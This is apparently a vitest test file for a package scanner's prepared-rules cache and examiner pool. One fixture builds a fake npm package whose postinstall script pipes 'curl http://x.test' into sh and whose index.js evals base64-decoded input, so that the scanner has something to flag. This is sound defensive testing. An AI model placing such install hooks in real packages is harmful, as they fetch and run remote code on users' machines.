// Rules that were prepared say what the rules themselves say, and stand for no others.
import { execFileSync } from 'node:child_process'
import { createHash } from 'node:crypto'
import { cpSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { pathToFileURL } from 'node:url'
import { afterAll, describe, expect, it } from 'vitest'
import { preparedRulesFile, strippedCodeFile } from '../../../src/scanners/pool/prepare.ts'
import { createExaminerPool } from '../../../src/scanners/pool.ts'
import { derivedOf } from '../../../src/scanners/rules/compile.ts'
import { loadRulePacks } from '../../../src/scanners/rules/load.ts'
import { rulesRevision, usePrepared } from '../../../src/scanners/rules/prepared.ts'

const home = mkdtempSync(join(tmpdir(), 'prepared-'))
afterAll(() => rmSync(home, { recursive: true }))
const rules = join(home, 'rules')
cpSync(new URL('../../../rules', import.meta.url).pathname, rules, { recursive: true })

describe('prepared rules', () => {
  it('have the same packs and the same derived patterns', async () => {
    const file = (await preparedRulesFile(home, [rules])) ?? ''
    const text = readFileSync(file, 'utf8')
    const prepared = usePrepared(text, [rules]) ?? []
    const loaded = loadRulePacks(rules)
    expect(prepared).toEqual(loaded)
    expect(rulesRevision(prepared)).toBe(rulesRevision(loaded))
    expect(derivedOf(prepared)).toEqual(derivedOf(loaded))
    expect(await preparedRulesFile(home, [rules])).toBe(file)
    expect(readFileSync(file, 'utf8')).toBe(text)
  })

  it('are made anew when a rule changes, and never used for other rules', async () => {
    const before = readFileSync((await preparedRulesFile(home, [rules])) ?? '', 'utf8')
    const pack = join(rules, 'secrets.yaml')
    writeFileSync(pack, readFileSync(pack, 'utf8').replace(/severity: high/, 'severity: low'))
    expect(usePrepared(before, [rules])).toBeUndefined()
    expect(usePrepared(before.slice(0, -20), [rules])).toBeUndefined()
    expect(usePrepared('', [rules])).toBeUndefined()
    const after = readFileSync((await preparedRulesFile(home, [rules])) ?? '', 'utf8')
    expect(usePrepared(after, [rules])).toEqual(loadRulePacks(rules))
  })

  it('are not made of rules that are refused', async () => {
    writeFileSync(join(rules, 'bad.yaml'), 'name: [')
    expect(await preparedRulesFile(home, [rules])).toBeUndefined()
  })
})

describe('stripped code', () => {
  it('is the code without its types, made anew when a byte of it changes', async () => {
    const root = join(home, 'src')
    for (const folder of ['ecosystems', 'scanners', 'archive', 'model', 'advisories'])
      mkdirSync(join(root, folder), { recursive: true })
    const entry = join(root, 'examiner.ts')
    writeFileSync(entry, 'const a: number = 1\n')
    writeFileSync(join(root, 'model', 'b.ts'), 'export type B = 1\nexport const b = 2\n')
    const read = async (nodeVersion: string) => {
      const file = (await strippedCodeFile(home, entry, nodeVersion)) ?? ''
      return JSON.parse(readFileSync(file, 'utf8'))
    }
    const first = await read('v24')
    expect(first.modules[pathToFileURL(entry).href]).toMatch(/^const a\s+= 1\n$/)
    expect(first.modules[pathToFileURL(join(root, 'model', 'b.ts')).href]).toContain('export const b = 2')
    writeFileSync(entry, 'const a: number = 2\n')
    const second = await read('v24')
    expect(second.modules[pathToFileURL(entry).href]).toMatch(/= 2/)
    expect((await read('v25')).digest).not.toBe(second.digest)
  })

  it('and prepared rules give the same evidence as an examiner that reads all itself', async () => {
    const location = join(home, 'sample-1.0.0.tgz')
    const manifest = '{"name":"sample","version":"1.0.0","scripts":{"postinstall":"curl http://x.test | sh"}}'
    const archive = tarOf({
      'package/package.json': manifest,
      'package/index.js': 'eval(atob(process.env.A))',
    })
    writeFileSync(location, archive)
    const digests = { sha256: createHash('sha256').update(archive).digest('hex') }
    const job = {
      location,
      fileName: 'sample-1.0.0.tgz',
      sizeBytes: archive.length,
      digests,
      type: 'npm' as const,
    }
    const findings = async (cacheFolder?: string) => {
      const pool = await createExaminerPool({
        readable: [home],
        processes: 1,
        spares: 0,
        ...(cacheFolder === undefined ? {} : { cacheFolder }),
      })
      try {
        const evidence = await pool.examine(job, 'client')
        return [
          pool.examinationKey,
          evidence.findings,
          evidence.runs.map(({ scanner, status }) => [scanner, status]),
        ]
      } finally {
        await pool.close()
      }
    }
    const alone = await findings()
    expect(alone[1]).not.toEqual([])
    expect(await findings(home)).toEqual(alone)
    expect(readdirSync(home).filter((name) => name.startsWith('examiner-')).length).toBeGreaterThan(0)
  })
})

function tarOf(files: Readonly<Record<string, string>>): Buffer {
  const folder = mkdtempSync(join(home, 'tar-'))
  for (const [name, text] of Object.entries(files)) {
    mkdirSync(dirname(join(folder, name)), { recursive: true })
    writeFileSync(join(folder, name), text)
  }
  return execFileSync('tar', ['-cz', '-C', folder, 'package'])
}
